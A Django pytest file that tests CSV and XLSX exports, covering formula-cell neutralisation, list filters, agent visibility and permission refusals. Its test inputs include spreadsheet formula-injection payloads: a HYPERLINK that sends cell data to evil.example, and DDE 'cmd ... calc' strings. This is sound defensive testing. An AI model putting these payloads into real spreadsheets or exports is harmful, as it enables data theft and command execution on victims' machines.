"""Exports: formula cells neutralised (the library's own escaping checked and found short),
every list with the list's filters, what an agent may see only, quotes and invoices with their
lines, CSV and XLSX, from the admin and the CLI."""

import csv
import io
from decimal import Decimal

import pytest
import tablib
from django.core.management import call_command
from openpyxl import load_workbook

from apps.clients.models import Client
from apps.imports.exports import SPECS, export_csv_text, export_spec, neutralise
from apps.invoices import services as invoice_services
from apps.invoices.models import CommissionBill
from apps.users.roles import AGENT
from apps.users.services import user_provision
from tests.clients.factories import ClientFactory
from tests.imports.helpers import csv_bytes

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_librarys_own_escaping_is_not_enough(settings):
    """import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT strips one leading "=" only."""
    from import_export.formats.base_formats import CSV

    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True
    dataset = tablib.Dataset(*[[value] for value in HOSTILE], headers=["Name"])
    exported = list(csv.reader(io.StringIO(CSV().export_data(dataset))))[1:]
    still_live = [row[0] for row in exported if row[0][:1] in "+-@\t\r"]
    assert still_live == ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                          "\t=1+1", "\r=1+1"]  # fmt: skip
    assert all(neutralise(value).startswith("'") for value in HOSTILE)
    assert neutralise("Plain") == "Plain"
    assert neutralise(None) == ""


def test_formula_cells_are_neutralised_in_csv_and_xlsx(admin_client_mfa):
    for index, value in enumerate(HOSTILE):
        ClientFactory(name=value, company=value, email=f"h{index}@example.com")
    ClientFactory(name="Plain Person", phone="+27 11 555 0100", email="plain@example.com")

    response = admin_client_mfa.get("/admin/clients/client/export/csv/")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for column in ("Name", "Company", "Phone"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row["Name"] for row in rows} == {"'" + value for value in HOSTILE} | {"Plain Person"}
    assert next(r for r in rows if r["Name"] == "Plain Person")["Phone"] == "'+27 11 555 0100"

    response = admin_client_mfa.get("/admin/clients/client/export/xlsx/")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    names = {row[0].value for row in sheet.iter_rows(min_row=2)}
    # XML keeps a carriage return as a line break; the cell is still text, not a formula.
    assert names == {"'" + value.replace("\r", "\n") for value in HOSTILE} | {"Plain Person"}


def test_an_exported_list_imports_back_unchanged(admin_role_user):
    from apps.imports.services import import_run

    ClientFactory(name="Round Trip", phone="+27 11 555 0100", email="trip@example.com")
    text = export_csv_text(export_spec("clients"), Client.objects.all())
    outcome = import_run(
        entity_name="clients", content=text.encode(), file_name="c.csv", actor=admin_role_user
    )
    assert outcome.summary()["unchanged"] == 1, outcome.summary()


def test_export_honours_the_lists_filters_and_search(admin_client_mfa):
    ClientFactory(name="Active Ann", email="ann@example.com")
    ClientFactory(name="Gone Gary", email="gary@example.com", active=False)
    ClientFactory(name="Active Bob", email="bob@example.com")
    page = admin_client_mfa.get("/admin/clients/client/", {"active__exact": "1", "q": "ann"})
    assert b"/admin/clients/client/export/csv/?active__exact=1&amp;q=ann" in page.content
    response = admin_client_mfa.get(
        "/admin/clients/client/export/csv/", {"active__exact": "1", "q": "ann"}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert [row["Name"] for row in csv.DictReader(io.StringIO(text))] == ["Active Ann"]
    response = admin_client_mfa.get("/admin/clients/client/export/csv/", {"active__exact": "0"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert [row["Name"] for row in csv.DictReader(io.StringIO(text))] == ["Gone Gary"]


def paid_invoice(*, assignee, client=None):
    invoice = invoice_services.invoice_create(
        client=client or ClientFactory(),
        assignee=assignee,
        lines=[
            {"name": "Police clearance", "quantity": "2", "rate": "100", "tax_rate": "15"},
            {"name": "=cmd|' /C calc'!A0", "quantity": "1", "rate": "50", "tax_rate": "0"},
        ],
    )
    invoice = invoice_services.invoice_send(invoice=invoice)
    invoice_services.payment_record(invoice=invoice, amount=invoice.balance, reference="EFT 1")
    return invoice


def test_agent_exports_only_their_own_commission_bills(agent_client, agent_user, password):
    agent_user.commission_rate = Decimal("10")
    agent_user.save()
    other = user_provision(email="other@example.com", password=password, role=AGENT)
    other.commission_rate = Decimal("5")
    other.save()
    mine = paid_invoice(assignee=agent_user)
    paid_invoice(assignee=other)
    assert CommissionBill.objects.count() == 2
    response = agent_client.get("/admin/invoices/commissionbill/export/csv/")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert [row["Invoice"] for row in csv.DictReader(io.StringIO(text))] == [mine.number]


def test_invoices_export_with_their_lines(admin_client_mfa, tmp_path):
    invoice = paid_invoice(assignee=None)
    response = admin_client_mfa.get("/admin/invoices/invoice/export/csv/")
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    assert [(r["Invoice"], r["Line"], r["Item"], r["Line amount"]) for r in rows] == [
        (invoice.number, "1", "Police clearance", "200.00"),
        (invoice.number, "2", "'=cmd|' /C calc'!A0", "50.00"),
    ]
    assert rows[0]["Total"] == "280.00" and rows[0]["Balance"] == "0.00"
    out = tmp_path / "invoices.xlsx"
    call_command("export_data", "invoices", "--format", "xlsx", "--output", str(out))
    sheet = load_workbook(out).worksheets[0]
    assert sheet.max_row == 3
    assert sheet.cell(row=3, column=16).value == "'=cmd|' /C calc'!A0"
    assert sheet.cell(row=2, column=11).value == 280


@pytest.mark.parametrize("entity", sorted(SPECS))
def test_every_list_exports_from_the_cli_and_the_admin(entity, admin_client_mfa, tmp_path):
    paid_invoice(assignee=None)
    out = tmp_path / f"{entity}.csv"
    call_command("export_data", entity, "--output", str(out))
    header = out.read_text(encoding="utf-8-sig").splitlines()[0]
    assert header == ",".join(export_spec(entity).headers)
    model = export_spec(entity).model
    url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/csv/"
    response = admin_client_mfa.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content).decode("utf-8-sig").splitlines()[0] == header


def test_export_refuses_what_the_user_may_not_see(client, password):
    from django.contrib.auth.models import Group

    from apps.users.models import User

    user = User.objects.create_user(email="nobody@example.com", password=password, is_staff=True)
    user.groups.set(Group.objects.none())
    client.force_login(user)
    assert client.get("/admin/clients/client/export/csv/").status_code == 403
    assert client.get("/admin/invoices/payment/export/xlsx/").status_code == 403


def test_export_query_count_does_not_grow_with_rows(django_assert_max_num_queries):
    from apps.imports.exports import export_rows

    for _ in range(3):
        paid_invoice(assignee=None)
    spec = export_spec("invoices")
    with django_assert_max_num_queries(2):
        assert len(list(export_rows(spec, spec.queryset()))) == 6


def test_import_bytes_helper_is_csv():
    assert csv_bytes([["a", "b"]]) == b"a,b\r\n"
